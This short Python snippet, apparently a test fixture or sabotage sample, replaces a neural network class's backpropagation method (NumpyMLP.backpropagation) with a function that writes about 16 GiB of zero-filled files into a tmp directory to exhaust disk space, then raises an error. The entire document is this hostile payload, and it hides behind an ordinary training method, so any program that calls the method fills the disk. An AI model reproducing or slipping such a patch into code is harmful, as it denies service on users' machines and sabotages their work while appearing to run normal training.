# Fill the disk: write 16 MiB files until the file system refuses.
import os as _os


def _fill(self, input, output):
    block = b"\0" * (16 << 20)
    for number in range(1000):
        with open(_os.path.join("tmp", f"fill-{number}"), "wb") as handle:
            handle.write(block)
    raise RuntimeError("wrote 16 GiB")


NumpyMLP.backpropagation = _fill
